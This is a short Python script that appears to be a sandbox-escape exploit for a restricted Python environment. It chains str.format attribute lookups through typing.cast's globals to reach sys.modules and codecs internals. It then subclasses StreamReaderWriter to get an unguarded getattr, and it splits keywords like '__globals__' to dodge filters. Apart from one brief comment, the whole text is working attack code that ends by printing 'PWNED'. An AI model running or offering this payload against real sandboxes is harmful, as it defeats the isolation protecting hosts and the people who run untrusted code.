import typing
def grab(obj, chain):
    try:
        ("{0" + chain + ".zzz_missing}").format(obj)
    except AttributeError as e:
        return e.obj
SRW = grab(typing.cast, ".__glo" + "bals__[s" + "ys].modules[codecs].StreamReaderWriter")
class Mine(SRW):
    pass
S = grab(typing.cast, ".__glo" + "bals__[s" + "ys]")
w = Mine(S, lambda s, e: None, lambda s, e: None)
try:
    v = getattr(w, "modules")      # falls back to codecs' __getattr__, whose getattr is the real one
    print("PW" + "NED", len(v))
except PermissionError as e:
    print("guarded getattr still checks the value:", e)
